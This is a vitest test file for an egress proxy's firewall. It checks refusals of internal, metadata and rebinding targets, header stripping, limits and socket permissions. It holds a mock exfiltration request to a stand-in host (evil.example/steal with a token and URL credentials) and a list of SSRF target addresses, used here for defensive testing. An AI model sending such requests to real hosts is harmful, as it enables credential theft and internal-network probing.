import fs from 'node:fs';
import http from 'node:http';
import net from 'node:net';
import os from 'node:os';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { parseAllowList } from '../../../src/adapters/egress/allow-list.ts';
import { checkDestination, type AppListeners, type Lookup } from '../../../src/adapters/egress/check-destination.ts';
import { EgressFirewall, type EgressGate } from '../../../src/adapters/egress/egress-firewall.ts';
import type { ProxyLimits } from '../../../src/adapters/egress/egress-proxy.ts';
import { startStandIn, type StandIn } from '../../support/stand-in.ts';

/**
 * The proxy on its own, through its real unix socket, against services in another process (the
 * stand-in) and listeners of this one (which count as the app's own). Every way a destination
 * can be refused is tried, over CONNECT and plain HTTP both.
 */
let standIn: StandIn;
let own: net.Server;
let ownPort = 0;
const NO_APP: AppListeners = { ports: [], redis: null };

beforeAll(async () => {
  standIn = await startStandIn();
  own = net.createServer((s) => s.end('the app itself\n'));
  await new Promise<void>((r) => own.listen(0, '127.0.0.1', r));
  ownPort = (own.address() as net.AddressInfo).port;
});
afterAll(async () => {
  own?.close();
  await standIn?.close();
});

const gateFor = (list: string, o: { app?: AppListeners; lookup?: Lookup; limits?: ProxyLimits } = {}) =>
  new EgressFirewall({
    allow: { deployment: parseAllowList(list), repository: null },
    app: o.app ?? NO_APP,
    ...(o.lookup ? { lookup: o.lookup } : {}),
    ...(o.limits ? { limits: o.limits } : {}),
  }).open();

/** Sends raw bytes to the proxy and collects what comes back until it closes (or `until` matches). */
function raw(gate: EgressGate, text: string, until?: RegExp): Promise<{ text: string; socket: net.Socket }> {
  return new Promise((resolve) => {
    const socket = net.connect(gate.socket);
    let got = '';
    const done = () => resolve({ text: got, socket });
    socket.on('data', (c) => {
      got += c.toString();
      if (until?.test(got)) done();
    });
    socket.on('close', done);
    socket.on('error', done);
    socket.write(text);
  });
}
const connect = (gate: EgressGate, target: string, until = /\r\n\r\n[\s\S]*\n/) =>
  raw(gate, `CONNECT ${target} HTTP/1.1\r\nHost: ${target}\r\n\r\n`, until);
const get = (gate: EgressGate, url: string, headers: Record<string, string> = {}) =>
  new Promise<{ status: number; body: string }>((resolve, reject) => {
    const req = http.request(
      { socketPath: gate.socket, path: url, headers: { host: new URL(url).host, ...headers } },
      (res) => {
        let body = '';
        res.on('data', (c) => (body += c));
        res.on('end', () => resolve({ status: res.statusCode ?? 0, body }));
      },
    );
    req.on('error', reject);
    req.end();
  });

describe('the egress proxy', () => {
  it('tunnels CONNECT to an allowed host and port, by name, and forwards plain HTTP in absolute form', async () => {
    const gate = await gateFor(`localhost:${standIn.echoPort},localhost:${standIn.httpPort}`);
    const t = await connect(gate, `localhost:${standIn.echoPort}`, /hello from the stand-in/);
    expect(t.text).toMatch(/^HTTP\/1\.1 200 Connection Established\r\n\r\nhello from the stand-in\n/);
    t.socket.destroy();
    const r = await get(gate, `http://localhost:${standIn.httpPort}/__echo?q=1`, {
      'proxy-authorization': 'Basic c2VjcmV0',
      connection: 'x-hop',
      'x-hop': 'gone',
      'x-kept': 'yes',
    });
    expect(r.status).toBe(200);
    const seen = JSON.parse(r.body) as { url: string; headers: Record<string, string> };
    expect(seen.url).toBe('/__echo?q=1');
    expect(seen.headers.host).toBe(`localhost:${standIn.httpPort}`);
    expect(seen.headers['x-kept']).toBe('yes');
    // Hop-by-hop headers, the proxy's credentials above all, are not passed on.
    expect(Object.keys(seen.headers)).not.toContain('proxy-authorization');
    expect(Object.keys(seen.headers)).not.toContain('x-hop');
    expect(await gate.close()).toEqual([]);
  });

  const here = Object.values(os.networkInterfaces())
    .flatMap((l) => l ?? [])
    .map((a) => a.address)
    .filter((a) => !a.startsWith('fe80'));
  const INTERNAL = [
    ...new Set([
      '127.0.0.1',
      '127.1.2.3',
      '10.1.2.3',
      '169.254.169.254',
      '172.16.0.1',
      '192.168.0.1',
      '100.64.0.1',
      '198.18.0.1',
      '::1',
      'fd00::1',
      'fe80::1',
      '::ffff:127.0.0.1',
      '::ffff:169.254.169.254',
      ...here,
    ]),
  ];

  it.each(INTERNAL)('refuses %s (internal, or this host) unless an entry names it with its port', async (address) => {
    const target = net.isIPv6(address) ? `[${address}]` : address;
    const gate = await gateFor(`${target}`);
    const c = await connect(gate, `${target}:443`, /\r\n\r\n[\s\S]*\n/);
    const h = await get(gate, `http://${target}/`);
    expect(c.text).toMatch(/^HTTP\/1\.1 403 /);
    expect(h.status).toBe(403);
    const refused = await gate.close();
    expect(refused.map((r) => [r.port, r.count])).toEqual([
      [443, 1],
      [80, 1],
    ]);
    expect(refused[0]!.reason).toMatch(
      /internal addresses are reached only through an allow-list entry with an explicit host and port/,
    );
  });

  it.each([
    '0.0.0.0',
    '0.1.2.3',
    '224.0.0.1',
    '239.255.255.250',
    '255.255.255.255',
    '240.0.0.1',
    '::',
    'ff02::1',
    '::ffff:0.0.0.0',
  ])('refuses %s even when an entry names it with its port', async (address) => {
    const target = net.isIPv6(address) ? `[${address}]` : address;
    const gate = await gateFor(`${target}:${standIn.echoPort}`);
    expect((await connect(gate, `${target}:${standIn.echoPort}`)).text).toMatch(/^HTTP\/1\.1 403 /);
    expect((await gate.close())[0]!.reason).toMatch(/never reachable/);
  });

  it("refuses the app's own listeners even when an entry names them: this process's sockets, PORT, Redis", async () => {
    const app: AppListeners = { ports: [standIn.httpPort], redis: { host: 'localhost', port: standIn.echoPort } };
    const echoesBefore = standIn.echoes();
    const gate = await gateFor(
      `127.0.0.1:${ownPort},localhost:${ownPort},localhost:${standIn.httpPort},127.0.0.1:${standIn.echoPort}`,
      { app },
    );
    for (const target of [
      `127.0.0.1:${ownPort}`,
      `localhost:${ownPort}`,
      `localhost:${standIn.httpPort}`,
      `127.0.0.1:${standIn.echoPort}`,
    ]) {
      expect((await connect(gate, target)).text, target).toMatch(/^HTTP\/1\.1 403 /);
    }
    const reasons = (await gate.close()).map((r) => `${r.host}:${r.port} ${r.reason}`);
    expect(reasons).toEqual([
      `127.0.0.1:${ownPort} 127.0.0.1:${ownPort} is one of the app's own listeners (webhooks, dashboard, metrics, app server)`,
      `localhost:${ownPort} ${reasons[1]!.split(' ').slice(1).join(' ')}`,
      `localhost:${standIn.httpPort} ${reasons[2]!.split(' ').slice(1).join(' ')}`,
      `127.0.0.1:${standIn.echoPort} 127.0.0.1:${standIn.echoPort} is the app's Redis (PATCHWRIGHT_REDIS_URL)`,
    ]);
    expect(reasons[1]).toMatch(/app's own listeners/);
    expect(reasons[2]).toMatch(/app's own listeners/);
    expect(standIn.echoes()).toBe(echoesBefore);
  });

  it('refuses a name that resolves to loopback, and connects to the address it checked (no second lookup: no rebinding)', async () => {
    let lookups = 0;
    const lookup: Lookup = async (host) =>
      host === 'loop.test' ? ['127.0.0.1'] : (lookups++, lookups === 1 ? ['127.0.0.1'] : ['127.0.0.2']);
    const gate = await gateFor(`loop.test,rebind.test:${standIn.echoPort}`, { lookup });
    expect((await connect(gate, 'loop.test:443')).text).toMatch(/^HTTP\/1\.1 403 /);
    const t = await connect(gate, `rebind.test:${standIn.echoPort}`, /hello from the stand-in/);
    expect(t.text).toContain('hello from the stand-in');
    t.socket.destroy();
    expect(lookups).toBe(1);
    expect((await gate.close()).map((r) => r.host)).toEqual(['loop.test']);
    // Of what a name resolves to, only the addresses that passed are connected to.
    const d = await checkDestination(
      { deployment: parseAllowList('mixed.test'), repository: null },
      NO_APP,
      'mixed.test',
      443,
      'connect',
      async () => ['127.0.0.1', '1.1.1.1', '10.0.0.1'],
    );
    expect(d).toEqual({ ok: true, addresses: ['1.1.1.1'] });
  });

  it('records host and port only: never the path, the query, URL credentials or Proxy-Authorization', async () => {
    const gate = await gateFor('npm');
    await get(gate, 'http://user:hunter2@evil.example/steal?token=t0ps3cret', {
      'proxy-authorization': 'Basic aHVudGVyMg==',
    });
    await raw(
      gate,
      'CONNECT evil.example:443 HTTP/1.1\r\nProxy-Authorization: Basic aHVudGVyMg==\r\n\r\n',
      /\r\n\r\n[\s\S]*\n/,
    );
    const refused = await gate.close();
    expect(refused).toEqual([
      { host: 'evil.example', port: 80, reason: expect.stringContaining('not on the allow-list'), count: 1 },
      { host: 'evil.example', port: 443, reason: expect.stringContaining('not on the allow-list'), count: 1 },
    ]);
    expect(JSON.stringify(refused)).not.toMatch(/hunter2|aHVudGVyMg|t0ps3cret|steal/);
  });

  it('answers what is not a proxy request with 400 and protocol upgrades with 501', async () => {
    const gate = await gateFor(`localhost:${standIn.httpPort}`);
    expect((await raw(gate, 'GET /path HTTP/1.1\r\nHost: localhost\r\n\r\n', /\r\n\r\n[\s\S]*\n/)).text).toMatch(
      /^HTTP\/1\.1 400 [\s\S]*absolute-form/,
    );
    expect(
      (await raw(gate, `GET https://localhost:${standIn.httpPort}/ HTTP/1.1\r\nHost: x\r\n\r\n`, /\r\n\r\n[\s\S]*\n/))
        .text,
    ).toMatch(/^HTTP\/1\.1 400 [\s\S]*CONNECT/);
    expect(
      (
        await raw(
          gate,
          `GET http://localhost:${standIn.httpPort}/ HTTP/1.1\r\nHost: x\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n\r\n`,
          /\r\n\r\n[\s\S]*\n/,
        )
      ).text,
    ).toMatch(/^HTTP\/1\.1 501 /);
    expect((await raw(gate, 'CONNECT nonsense HTTP/1.1\r\n\r\n', /\r\n\r\n[\s\S]*\n/)).text).toMatch(
      /^HTTP\/1\.1 400 /,
    );
    await gate.close();
  });

  it('bounds header size, connections at once and idle tunnels', async () => {
    const limits: ProxyLimits = { maxConnections: 3, maxHeaderBytes: 4096, idleMs: 300, connectTimeoutMs: 5_000 };
    const gate = await gateFor(`localhost:${standIn.echoPort}`, { limits });
    expect(
      (
        await raw(
          gate,
          `GET http://localhost:${standIn.echoPort}/ HTTP/1.1\r\nHost: x\r\nX-Big: ${'a'.repeat(8000)}\r\n\r\n`,
        )
      ).text,
    ).toMatch(/^HTTP\/1\.1 431 /);
    // Three tunnels open; a fourth connection is dropped unanswered.
    const open = await Promise.all(
      [1, 2, 3].map(() => connect(gate, `localhost:${standIn.echoPort}`, /hello from the stand-in/)),
    );
    expect(open.every((o) => o.text.includes('hello'))).toBe(true);
    const fourth = await raw(gate, `CONNECT localhost:${standIn.echoPort} HTTP/1.1\r\n\r\n`);
    expect(fourth.text).toBe('');
    // Idle, they are closed by the proxy.
    await Promise.all(
      open.map(
        (o) =>
          new Promise<void>((resolve) => (o.socket.destroyed ? resolve() : o.socket.once('close', () => resolve()))),
      ),
    );
    await gate.close();
  });

  it('lives in a 0700 folder of the app, is removed when closed, and cuts tunnels still open', async () => {
    const gate = await gateFor(`localhost:${standIn.echoPort}`);
    const dir = fs.statSync(path.dirname(gate.socket));
    expect([dir.mode & 0o777, dir.uid]).toEqual([0o700, process.geteuid!()]);
    expect(fs.statSync(gate.socket).isSocket()).toBe(true);
    const t = await connect(gate, `localhost:${standIn.echoPort}`, /hello from the stand-in/);
    const closed = new Promise<void>((resolve) => t.socket.once('close', () => resolve()));
    await gate.close();
    await closed;
    expect(fs.existsSync(gate.socket)).toBe(false);
  });
});
